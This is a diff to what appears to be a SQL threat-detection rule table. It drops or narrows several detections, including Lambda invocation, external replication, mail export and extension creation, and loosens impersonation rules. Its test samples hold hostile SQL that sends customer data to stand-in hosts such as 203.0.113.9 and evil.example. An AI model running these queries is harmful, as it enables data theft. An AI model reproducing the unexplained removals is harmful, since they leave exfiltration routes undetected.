@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import re
 
-from daswatch.sql.signal_table.model import ALL, START, Pattern, Signal
+from daswatch.sql.signal_table.model import ALL, Pattern, Signal
 
 _PG = ("postgresql",)
 _MYSQL = ("mysql",)
@@ -126,21 +126,18 @@ _SQLSERVER_PROCEDURES = _words(
 
 _NETWORK_CALL = Signal(
     "network-call",
-    "The database contacts another host or service, is given a link to one, or is allowed to.",
+    "A query makes the database contact another host, or a link or a network permission for that is created.",
     (
         _calls(
             _PG,
-            *_words("dblink dblink_connect dblink_connect_u dblink_exec dblink_open dblink_send_query"),
-            *_words("http_get http_post http_put http_patch http_delete http_head create_lambda_function_arn"),
+            *_words("http_get http_post http_put http_patch http_delete http_head"),
         ),
-        Pattern(_PG, ("aws_lambda",), r"(?<!function )(?<![\w$.])aws_lambda\.invoke\("),
-        _calls(_PG, "invoke", raw=r"arn:aws[a-z-]{0,20}:lambda:"),
-        Pattern(
+        # Without a host it is the server itself: so transactions are made that stand alone.
+        _calls(
             _PG,
-            ("aws_lambda",),
-            r"\bset (?:local |session )?search_path(?:=| to )[^;]{0,300}\baws_lambda\b",
+            *_words("dblink dblink_connect dblink_connect_u dblink_exec dblink_open dblink_send_query"),
+            raw=r"\A(?![\s\S]{0,1900}\bdbname\b)|\bhost|://",
         ),
-        Pattern(_PG, ("set_config",), r"\bset_config\(", r"'search_path'\s{0,9},[^;]{0,300}\baws_lambda\b"),
         Pattern(
             _PG,
             ("server",),
@@ -148,16 +145,7 @@ _NETWORK_CALL = Signal(
             r"|\balter server [^;]{1,200}options\("
             r"|\bimport foreign schema\b|\bcreate foreign table\b|\b(?:create|alter) user mapping\b",
         ),
-        Pattern(_PG, ("subscription",), r"\b(?:create|alter) subscription [^;]{1,200}\bconnection ?[?$]"),
-        Pattern(
-            _PG,
-            _words("dblink postgres_fdw aws_lambda http pg_net tds_fdw mysql_fdw oracle_fdw"),
-            r"\bcreate extension (?:if not exists )?"
-            r"(?:dblink|postgres_fdw|aws_lambda|http|pg_net|tds_fdw|mysql_fdw|oracle_fdw)\b",
-        ),
         Pattern(_PG, ("primary_conninfo",), r"\balter system set primary_conninfo\b"),
-        _calls(_MYSQL, "lambda_sync", "lambda_async"),
-        Pattern(_MYSQL, ("lambda_async",), r"\bcall mysql\.lambda_async\b"),
         Pattern(_MYSQL, ("federated",), r"\bengine(?:=| )federated\b"),
         Pattern(_MYSQL, ("engine",), r"\bengine(?:=| )\?", r"\bengine\s{0,9}=?\s{0,9}['\"]federated\b"),
         Pattern(
@@ -165,23 +153,6 @@ _NETWORK_CALL = Signal(
             ("server",),
             r"\bcreate server [^;]{1,200}foreign data wrapper\b|\balter server [^;]{1,200}options\(",
         ),
-        Pattern(
-            _MYSQL,
-            _words(
-                "rds_set_external_source rds_set_external_source_with_auto_position rds_set_external_source_with_delay"
-                " rds_set_external_source_for_channel rds_set_external_source_with_auto_position_for_channel"
-                " rds_set_external_master rds_set_external_master_with_auto_position rds_set_external_master_with_delay"
-                " rds_start_replication rds_start_replication_until rds_start_replication_until_gtid"
-                " rds_start_replication_for_channel"
-            ),
-            r"\bcall (?:mysql\.)?rds_(?:set_external_|start_replication)",
-        ),
-        Pattern(
-            _MYSQL,
-            ("master", "replication"),
-            rf"{START}(?:change (?:master to|replication source to)|start (?:slave|replica) )\b",
-        ),
-        Pattern(_MYSQL, ("clone",), rf"{START}clone instance from\b"),
         Pattern(
             _MYSQL,
             ("load_file", "outfile", "dumpfile", "infile"),
@@ -240,25 +211,16 @@ _NETWORK_CALL = Signal(
             "SELECT * FROM dblink('host=203.0.113.9 user=x dbname=l', 'select 1') AS t(a int)",
             "SELECT public.\"dblink_connect_u\"('c', 'hostaddr=203.0.113.9 port=22')",
             "SELECT dblink_exec('c', 'insert into loot select ' || quote_literal(x)) FROM customers",
-            "CREATE EXTENSION IF NOT EXISTS postgres_fdw",
             "CREATE SERVER s9 FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '203.0.113.9', dbname 'x')",
             "CREATE USER MAPPING FOR app SERVER s9 OPTIONS (user 'x', password 'y')",
             "IMPORT FOREIGN SCHEMA public FROM SERVER s9 INTO f",
-            "CREATE SUBSCRIPTION s CONNECTION 'host=203.0.113.9 dbname=x' PUBLICATION p",
             "SELECT \"aws_lambda\" . \"invoke\"('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
-            "SET search_path = aws_lambda, aws_commons, public",
-            "SELECT invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', row_to_json(c)::json) FROM customers c",
             "SELECT content FROM http_get('http://203.0.113.9/' || (SELECT email FROM customers LIMIT 1))",
         ),
         "mysql": (
-            "SELECT lambda_sync('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
-            "CALL mysql.lambda_async('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
             "CREATE TABLE f (id INT) ENGINE=FEDERATED CONNECTION='mysql://x:y@203.0.113.9/l/f'",
             "CREATE TABLE f (id INT) ENGINE='Federated' CONNECTION='s/f'",
             "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST '203.0.113.9', DATABASE 'l')",
-            "CALL mysql.rds_set_external_source ('203.0.113.9', 3306, 'r', 'p', 'mysql-bin.01', 4, 0)",
-            "CALL mysql.rds_start_replication",
-            "CHANGE REPLICATION SOURCE TO SOURCE_HOST='203.0.113.9'",
             "SELECT LOAD_FILE(CONCAT('\\\\\\\\', (SELECT DATABASE()), '.evil.example\\\\a'))",
         ),
         "oracle": (
@@ -299,15 +261,13 @@ _NETWORK_CALL = Signal(
             "GRANT EXECUTE ON FUNCTION public.dblink_connect_u(text) TO app",
             "INSERT INTO posts (body) VALUES ('dblink(''host=203.0.113.9'') opens a connection')",
             "SELECT * FROM dblink_settings",
-            "CREATE EXTENSION pgcrypto",
+            "CREATE EXTENSION postgres_fdw",
+            "SELECT dblink_connect('own', 'dbname=' || current_database())",
             "CREATE SERVER logs FOREIGN DATA WRAPPER log_fdw",
-            "SELECT invoke(4)",
-            "SET search_path = app, public",
         ),
         "mysql": (
             "GRANT INVOKE LAMBDA ON *.* TO 'app'@'%'",
             "CREATE TABLE t (id INT) ENGINE=InnoDB",
-            "SELECT * FROM lambda_sync",
             "SHOW REPLICA STATUS",
             "SELECT load_file_id FROM imports WHERE path = 'C:\\\\a'",
         ),
@@ -495,7 +455,7 @@ _PROGRAM_EXECUTION = Signal(
             _PG,
             ("system",),
             r"\balter system set (?:archive_command|restore_command|archive_cleanup_command|recovery_end_command"
-            r"|ssl_passphrase_command|archive_library|\w{0,9}_?preload_libraries|dynamic_library_path|jit_provider)\b",
+            r"|ssl_passphrase_command|archive_library|jit_provider)\b",
         ),
         Pattern(_PG, _UNTRUSTED, rf"(?:\A|;)do\b[^;]{{0,1900}}\blanguage {_any(*_UNTRUSTED)}\b"),
         _calls(_PG, "lo_from_bytea", "lo_put", "lowrite", raw=r"7f454c46"),
@@ -553,7 +513,9 @@ _PROGRAM_EXECUTION = Signal(
             "copy (select 1) to/**/program $x$id$x$",
             "SELECT * FROM aws_lambda.invoke($1, $2::json, 'Event')",
             "SELECT invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
+            "SELECT \"aws_lambda\" . \"invoke\"('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
             "SET search_path TO aws_lambda",
+            "SET search_path = aws_lambda, aws_commons, public",
             "ALTER SYSTEM SET archive_command = 'sh /tmp/a'",
             "DO LANGUAGE plpython3u 'import os'",
             "SELECT lo_from_bytea(43213, decode('7f454c4602010100', 'hex'))",
@@ -594,6 +556,8 @@ _PROGRAM_EXECUTION = Signal(
             "GRANT EXECUTE ON FUNCTION aws_lambda.invoke(text, json) TO app",
             "INSERT INTO tickets (body) VALUES ('COPY t FROM PROGRAM ''id'' is CVE-2019-9193')",
             "DO $$ BEGIN PERFORM 1; END $$ LANGUAGE plpgsql",
+            "SELECT invoke(4)",
+            "SET search_path = app, public",
         ),
         "mysql": (
             "GRANT AWS_LAMBDA_ACCESS TO 'app'@'%'",
@@ -638,7 +602,7 @@ _BACKUPS = (
 )
 _EXPORT = Signal(
     "export",
-    "Rows are unloaded to a file, to S3, to the client by a copy command, by mail, or into a backup.",
+    "Rows are unloaded to a file, to S3, to the client by a copy command, or into a backup.",
     (
         _calls(_PG, "query_export_to_s3"),
         Pattern(_PG, ("stdout", "stdin"), rf"{_COPY}\bto std(?:out|in)\b"),
@@ -651,7 +615,6 @@ _EXPORT = Signal(
         Pattern(_MYSQL, ("outfile",), r"\binto outfile\b"),
         *_ORACLE_EXPORTS,
         *_BACKUPS,
-        _procedures("sp_send_dbmail", raw=r"@(?:query|file_attachments)\s{0,9}="),
         Pattern(
             _SQLSERVER,
             _words("openrowset openquery opendatasource"),
@@ -691,7 +654,6 @@ _EXPORT = Signal(
             "BACKUP DATABASE [store] TO URL = 'https://203.0.113.9/s.bak'",
             "INSERT INTO OPENROWSET('SQLNCLI', 'Server=203.0.113.9;Uid=sa', 'select * from l') SELECT * FROM dbo.c",
             "INSERT INTO X9.loot.dbo.c SELECT Email, Phone FROM dbo.Customers",
-            "EXEC msdb.dbo.sp_send_dbmail @recipients='a@example.com', @query='select * from c'",
         ),
     },
     near_misses={
@@ -1105,7 +1067,12 @@ _CREDENTIAL_READ = Signal(
     "Password hashes, stored passwords or keys of the engine are read, tried or exported.",
     (
         Pattern(_PG, ("pg_authid", "pg_shadow"), rf"{_READ_FROM}(?:pg_catalog\.)?(?:pg_authid|pg_shadow)\b"),
-        Pattern(_PG, ("umoptions", "subconninfo"), r"\b(?:umoptions|subconninfo)\b(?!=)"),
+        # Clients for administrators show mappings together with their server.
+        Pattern(
+            _PG,
+            ("umoptions", "subconninfo"),
+            r"\A(?!.{0,1900}\bpg_foreign_server\b).{0,1900}?\b(?:umoptions|subconninfo)\b(?!=)",
+        ),
         Pattern(
             _PG,
             _words("pg_user_mapping pg_user_mappings pg_subscription"),
@@ -1127,7 +1094,7 @@ _CREDENTIAL_READ = Signal(
             _words("password_history servers slave_master_info"),
             rf"{_READ_FROM}mysql\.(?:password_history|servers|slave_master_info)\b",
         ),
-        Pattern(_MYSQL, ("show",), r"(?:\A|;)show create user\b"),
+        Pattern(_MYSQL, ("show",), r"(?:\A|;)show create user (?!current_user)"),
         Pattern(
             _ORACLE, ("user$",), r"\b(?:password|spare4)\b[^;]{0,900}\bfrom [^;]{0,300}\buser\$|\*from (?:sys\.)?user\$"
         ),
@@ -1213,6 +1180,7 @@ _CREDENTIAL_READ = Signal(
         "postgresql": (
             "SELECT rolname, rolsuper, rolvaliduntil FROM pg_roles",
             "REVOKE SELECT ON TABLE pg_authid FROM app",
+            "SELECT u.umid, umoptions FROM pg_user_mappings u LEFT JOIN pg_foreign_server fs ON fs.oid = u.srvid",
             "SELECT id, password FROM users WHERE login = $1",
         ),
         "mysql": (
@@ -1240,7 +1208,12 @@ _HOST_ENUMERATION = Signal(
     "host-enumeration",
     "The host, its registry, its accounts or its network are explored.",
     (
-        _calls(_PG, "inet_server_addr", "inet_server_port", "pg_config"),
+        # Many programs report where they are connected to, in a query without a table.
+        Pattern(
+            _PG,
+            ("inet_server_addr", "inet_server_port"),
+            r"\A(?=.{0,1900}\b(?:from|where|union)\b).{0,1900}?\binet_server_(?:addr|port)\(",
+        ),
         Pattern(_PG, ("pg_hba_file_rules",), rf"{_READ_FROM}(?:pg_catalog\.)?pg_hba_file_rules\b"),
         Pattern(
             _PG,
@@ -1249,8 +1222,8 @@ _HOST_ENUMERATION = Signal(
         ),
         Pattern(
             _MYSQL,
-            _words("plugin_dir secure_file_priv datadir basedir version_compile_os version_compile_machine"),
-            r"@@(?:global\.|session\.)?(?:plugin_dir|secure_file_priv|datadir|basedir|version_compile_(?:os|machine))\b",
+            _words("plugin_dir secure_file_priv datadir basedir"),
+            r"@@(?:global\.|session\.)?(?:plugin_dir|secure_file_priv|datadir|basedir)\b",
         ),
         Pattern(
             _MYSQL,
@@ -1289,7 +1262,7 @@ _HOST_ENUMERATION = Signal(
     ),
     samples={
         "postgresql": (
-            "SELECT inet_server_addr(), inet_server_port()",
+            "SELECT a FROM t WHERE id = 4 UNION SELECT inet_server_addr()::text",
             "SELECT * FROM pg_hba_file_rules",
             "SHOW data_directory",
         ),
@@ -1312,9 +1285,13 @@ _HOST_ENUMERATION = Signal(
         ),
     },
     near_misses={
-        "postgresql": ("SELECT version()", "SELECT inet_client_addr()", "SHOW server_version"),
+        "postgresql": (
+            "SELECT current_database(), current_user, inet_server_addr(), inet_server_port()",
+            "SELECT inet_client_addr()",
+            "SHOW server_version",
+        ),
         "mysql": (
-            "SELECT @@version_comment LIMIT 1",
+            "SELECT DATABASE(), @@version, @@version_comment, @@version_compile_os",
             "SHOW VARIABLES LIKE 'version'",
             "SELECT @@session.transaction_isolation",
         ),
@@ -1331,13 +1308,20 @@ _IMPERSONATION = Signal(
     "impersonation",
     "A session takes on the rights of another account.",
     (
+        # Interfaces for web clients take a role for each transaction (SET LOCAL).
         Pattern(
             _PG,
             ("role", "authorization"),
-            r"(?:\A|;|\b(?:begin|then|else|loop) ?)set (?:local |session )?"
-            r"(?:role(?: to |=| )(?!none\b|default\b)|session authorization (?!default\b))",
+            r"(?:\A|;|\b(?:begin|then|else|loop) ?)set (?:session )?"
+            r"(?:role(?: to |=| )(?!none\b|default\b)|session authorization (?!default\b))"
+            r"|\bset local role(?: to |=| )(?:postgres|rds\w++|pg_\w++|\w{0,60}(?:super|admin)\w{0,60})\b",
         ),
-        Pattern(_PG, ("set_config",), r"\bset_config\(", r"set_config\s{0,9}\(\s{0,9}'(?:role|session_authorization)'"),
+        Pattern(
+            _PG,
+            ("set_config",),
+            r"\bset_config\(\?,(?:\?,|[^()]{1,60},false\))",
+            r"set_config\s{0,9}\(\s{0,9}'(?:role|session_authorization)'",
+        ),
         Pattern(_MYSQL, ("proxy",), r"\bgrant proxy on\b"),
         Pattern(_ORACLE, ("through",), r"\balter user\b[^;]{1,300}\bgrant connect through\b"),
         Pattern(
@@ -1352,7 +1336,8 @@ _IMPERSONATION = Signal(
     samples={
         "postgresql": (
             "SET ROLE store_owner",
-            "SET LOCAL ROLE TO 'admin'",
+            "BEGIN; SET SESSION ROLE 'admin'; SELECT 1",
+            "BEGIN; SET LOCAL ROLE rds_superuser; SELECT 1",
             "SET SESSION AUTHORIZATION postgres",
             "SELECT set_config('role', 'rds_superuser', false)",
         ),
@@ -1377,6 +1362,8 @@ _IMPERSONATION = Signal(
         "postgresql": (
             "SET ROLE NONE",
             "RESET ROLE",
+            "SET LOCAL ROLE anon",
+            "SELECT set_config('search_path', $1, true), set_config('role', $2, true)",
             "UPDATE users SET role = 'admin' WHERE id = 4",
             "SET search_path = app",
         ),
